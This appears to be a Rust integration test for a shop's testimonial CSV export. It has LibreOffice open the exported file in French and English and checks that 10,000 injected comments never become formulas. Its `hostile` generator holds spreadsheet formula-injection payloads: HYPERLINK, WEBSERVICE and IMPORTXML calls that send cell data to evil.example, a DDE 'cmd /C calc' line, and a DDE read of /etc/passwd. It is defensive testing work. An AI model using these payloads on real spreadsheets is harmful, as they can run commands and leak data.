//! The file for people, opened by `LibreOffice` as a person would: in French and in English, with 10,000 cells that want to be formulas, and
//! some that want to be numbers and dates.
//! `scripts/libreoffice.sh` finds or installs it; `make test` calls that.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use afterword::csv_rows::guarded_text;
use quick_xml::events::{BytesStart, Event};

use crate::support::factories::{self, Order, Response};
use crate::support::program::{Program, shipped};
use crate::support::{say, test_name};

/// A cell, as `LibreOffice` understood it.
#[derive(Debug, Clone, PartialEq, Default)]
struct Cell {
    /// What `LibreOffice` takes it for: `string`, `float`, `date`; empty for an empty cell.
    kind: String,
    /// The value of a number or a date.
    value: String,
    text: String,
    is_formula: bool,
}

/// What `LibreOffice` makes of a file, with everything turned on that a person may have turned on: special numbers are recognised and formulas
/// are computed. `None`, with a line that cannot be overlooked, where there is none.
fn opened(path: &Path, delimiter: u8, language: u16) -> Option<Vec<Vec<Cell>>> {
    let found =
        Command::new("scripts/libreoffice.sh").current_dir(env!("CARGO_MANIFEST_DIR")).output().unwrap();
    if !found.status.success() {
        say(&format!("SKIPPED {}: there is no LibreOffice; see scripts/libreoffice.sh", test_name()));
        return None;
    }
    let program = String::from_utf8(found.stdout).unwrap();
    let folder = path.parent().unwrap();
    // Separator, text delimiter, UTF-8, first line, no column formats, language, quoted fields are not taken for text only, special numbers
    // are detected, …, formulas are evaluated.
    let filter = format!(
        "--infilter=Text - txt - csv (StarCalc):{delimiter},34,76,1,,{language},false,true,false,false,false,-1,true"
    );
    let profile = format!("-env:UserInstallation=file://{}/profile", folder.display());
    let output = Command::new(program.lines().next().unwrap())
        .args(["--headless", &profile, &filter, "--convert-to", "fods", "--outdir"])
        .args([folder, path])
        .env("HOME", folder)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Some(rows(&std::fs::read_to_string(path.with_extension("fods")).unwrap()))
}

fn attribute(start: &BytesStart<'_>, name: &str) -> Option<String> {
    let found =
        start.attributes().map(Result::unwrap).find(|attribute| attribute.key.into_inner() == name)?;
    Some(quick_xml::escape::unescape(&found.value).unwrap().into_owned())
}

/// The rows of a flat `OpenDocument` spreadsheet.
fn rows(xml: &str) -> Vec<Vec<Cell>> {
    let mut reader = quick_xml::Reader::from_str(xml);
    let (mut rows, mut row, mut cell, mut times): (Vec<Vec<Cell>>, Vec<Cell>, Cell, usize) =
        Default::default();
    let (mut n_paragraphs, mut in_paragraph) = (0, false);
    let begin = |start: &BytesStart<'_>| {
        let value = ["office:date-value", "office:value"].iter().find_map(|name| attribute(start, name));
        let cell = Cell {
            kind: attribute(start, "office:value-type").unwrap_or_default(),
            value: value.unwrap_or_default(),
            text: String::new(),
            is_formula: attribute(start, "table:formula").is_some(),
        };
        (cell, attribute(start, "table:number-columns-repeated").map_or(1, |times| times.parse().unwrap()))
    };
    loop {
        let event = reader.read_event().unwrap();
        let is_empty = matches!(event, Event::Empty(_));
        match event {
            Event::Start(start) | Event::Empty(start) => match start.name().into_inner() {
                "table:table-row" => row.clear(),
                "table:table-cell" => {
                    (cell, times) = begin(&start);
                    n_paragraphs = 0;
                    if is_empty {
                        row.extend(vec![cell.clone(); times.min(100)]);
                    }
                }
                "text:p" => {
                    if n_paragraphs > 0 {
                        cell.text.push('\n');
                    }
                    n_paragraphs += 1;
                    in_paragraph = !is_empty;
                }
                "text:s" => {
                    let n = attribute(&start, "text:c").map_or(1, |n| n.parse().unwrap());
                    cell.text.push_str(&" ".repeat(n));
                }
                "text:tab" => cell.text.push('\t'),
                "text:line-break" => cell.text.push('\n'),
                _ => {}
            },
            Event::Text(text) if in_paragraph => cell.text.push_str(&text.xml10_content()),
            Event::GeneralRef(reference) if in_paragraph => match reference.resolve_char_ref().unwrap() {
                Some(c) => cell.text.push(c),
                None => {
                    let name = reference.xml10_content();
                    cell.text.push_str(quick_xml::escape::resolve_predefined_entity(&name).unwrap());
                }
            },
            Event::End(end) => match end.name().into_inner() {
                "text:p" => in_paragraph = false,
                "table:table-cell" => row.extend(vec![cell.clone(); times]),
                "table:table-row" => rows.push(row.clone()),
                _ => {}
            },
            Event::Eof => return rows,
            _ => {}
        }
    }
}

/// Cells that want to be formulas: what attackers write, behind and before everything that some program skips.
fn hostile(n: usize) -> Vec<String> {
    let before = ["", " ", "\u{a0}", "\u{feff}", "\t", "\n", "\r\n", "'", "\"", ";", ",", "\u{3000}", "é"];
    let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "+=", "==", "=@"];
    let calls = [
        "1+1",
        "SUM(A1:A9)",
        "HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")",
        "cmd|' /C calc'!A0",
        "DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
        "WEBSERVICE(\"http://evil.example\")",
        "IMPORTXML(CONCAT(\"http://evil.example/\";A1);\"//a\")",
        "très bien; \"vraiment\", merci\r\nà bientôt",
        "A1\";=1+1;\"",
        "NOW()",
    ];
    let after = ["", " ", "\n=2+2", ";=2+2", ",=2+2", "\"", "\"\"=1", " é€🎉"];
    let all = before.iter().flat_map(|b| signs.iter().map(move |s| (b, s)));
    let all = all.flat_map(|(b, s)| calls.iter().map(move |c| (b, s, c)));
    let all = all.flat_map(|(b, s, c)| after.iter().map(move |a| format!("{b}{s}{c}{a}")));
    all.take(n).collect()
}

/// Words that a spreadsheet reads as numbers, dates, times and truth values, in one of the two languages at least.
const VALUES: [&str; 32] = [
    "10/10",
    "5/5",
    " 5/5 ",
    "00123",
    "1E5",
    "1e+5",
    "1,5",
    "1.5",
    "1-2",
    "10:30",
    "10:30 PM",
    "50%",
    "20 %",
    "1 000",
    "1\u{202f}000",
    "1,000",
    "1 1/2",
    "5.5.5",
    "(5)",
    "5 €",
    "€5",
    "$5",
    "TRUE",
    "vrai",
    "faux",
    "mars 2026",
    "3 mars",
    "mai 68",
    "lundi 3 mars 2026",
    "May 5",
    "2026-11",
    "2026-03-10T10:00",
];

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_shows_what_was_written_and_runs_nothing() {
    let program = Program::new(&shipped()).await;
    program.run(&["migrate"]).expect(0);
    let pool = &program.db.pool;
    let shop = factories::shop(pool, "maison").await;
    let customer = factories::customer(pool, shop, "customer@shop.example").await;
    let order = Order::new(shop, customer, "A-0").insert(pool).await;
    let first = Response {
        survey: "satisfaction".to_owned(),
        comment: Some("Très « bien » ; œuvre, 1,5 €\nà bientôt\n\nCléo".to_owned()),
        ..Response::new(shop, order)
    };
    first.insert(pool).await;
    // One order, one answer and one testimonial for each text, in one statement.
    let mut texts = hostile(10_000);
    assert_eq!(texts.len(), 10_000);
    texts.extend(VALUES.map(str::to_owned));
    sqlx::query(
        r#"with given as (
               select n, body from unnest($1::text[]) with ordinality as given (body, n)
           ), o as (
               insert into "order" (shop_id, external_id, customer_id, ordered_at, fulfilled_at, status, items, attributes, imported_at, updated_at, country)
               select shop_id, 'B-' || n, customer_id, ordered_at, fulfilled_at, status, items, '{}', imported_at, updated_at, 'FR'
               from "order", given order by n returning shop_id, order_id, external_id
           ), r as (
               insert into response (shop_id, order_id, survey, survey_version_id, revision, counted, via, verdict, locale,
                                     answered_at, received_at, consent_version)
               select o.shop_id, o.order_id, survey, survey_version_id, 1, true, 'page', 'human', 'fr', answered_at, received_at,
                      consent_version
               from o, response order by o.order_id returning shop_id, response_id, order_id
           )
           insert into answer (shop_id, response_id, question, body)
           select r.shop_id, r.response_id, 'comment', given.body
           from r join o using (shop_id, order_id) join given on o.external_id = 'B-' || given.n"#,
    )
    .bind(&texts)
    .execute(pool)
    .await
    .unwrap();
    sqlx::query(
        "insert into testimonial (shop_id, response_id, state, decided_at)
         select shop_id, response_id, 'approved', '2026-03-12' from response",
    )
    .execute(pool)
    .await
    .unwrap();
    let written: BTreeMap<i64, String> =
        sqlx::query_as::<_, (i64, String)>("select response_id, body from answer where question = 'comment'")
            .fetch_all(pool)
            .await
            .unwrap()
            .into_iter()
            .collect();

    for (locale, delimiter, language, columns) in [
        ("fr", b';', 1036, ["Numéro", "Note (sur 5)", "Recommande", "Avis", "Date de l’expérience"]),
        ("en", b',', 1033, ["Number", "Rating (of 5)", "Recommends", "Comment", "Date of the experience"]),
    ] {
        let out = format!("{locale}/avis.csv");
        let export =
            ["export", "testimonials", "--format", "excel", "--locale", locale, "--as-of", "2026-04-01"];
        program.run(&[export.as_slice(), &["--out", &out]].concat()).expect(0);
        let Some(rows) = opened(&program.path(&out), delimiter, language) else { return };
        let header: Vec<&str> = rows[0].iter().map(|cell| cell.text.as_str()).collect();
        let at = columns.map(|column| header.iter().position(|other| *other == column).unwrap());
        let [number, rating, recommends, comment, date] = at;
        let rows: Vec<_> =
            rows[1..].iter().filter(|row| row.len() > date && !row[number].kind.is_empty()).collect();
        assert_eq!(
            rows.len(),
            written.len(),
            "{locale}: as many rows as testimonials, whatever is in their cells"
        );
        for row in &rows {
            assert!(row.iter().all(|cell| !cell.is_formula), "{locale}: {row:?}");
            let id: i64 = row[number].value.parse().unwrap();
            // LibreOffice loses tabs in cells of several lines.
            let seen = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n").replace('\t', "");
            let (shown, body) = (seen(&row[comment].text), &written[&id]);
            assert_eq!(row[comment].kind, "string", "{locale}: {body:?}");
            assert_eq!(shown, seen(&guarded_text(body)), "{locale}: {body:?}");
            assert_eq!(
                (row[date].kind.as_str(), row[date].value.as_str()),
                ("date", "2026-03-03"),
                "{locale}"
            );
        }
        let first = rows[0];
        assert_eq!(first[comment].text, "Très « bien » ; œuvre, 1,5 €\nà bientôt\n\nCléo");
        assert_eq!((first[rating].kind.as_str(), first[rating].value.as_str()), ("float", "5"));
        assert_eq!(first[recommends].text, if locale == "fr" { "oui" } else { "yes" });

        // A share is a number in the language's way of writing.
        let out = format!("{locale}/choix.csv");
        let selected = ["--min-rating", "5", "--selected-label", "Choix", "--out", &out];
        program.run(&[export.as_slice(), &selected].concat()).expect(0);
        let rows = opened(&program.path(&out), delimiter, language).unwrap();
        let rate = rows[0]
            .iter()
            .position(|cell| {
                cell.text.contains("ecommand") && cell.text.contains("de toutes")
                    || cell.text.contains("of all answers")
            })
            .unwrap();
        assert_eq!((rows[1][rate].kind.as_str(), rows[1][rate].value.as_str()), ("float", "1"), "{locale}");
    }

    // The same without the guard would run, or be something else: LibreOffice was asked in earnest.
    let unguarded = program.write("unguarded.csv", "a,b\r\n1,=1+1\r\n10/10,00123\r\n");
    let rows = opened(&unguarded, b',', 1033).unwrap();
    assert!(rows[1][1].is_formula, "{rows:?}");
    assert_eq!((rows[2][0].kind.as_str(), rows[2][1].value.as_str()), ("date", "123"), "{rows:?}");
}
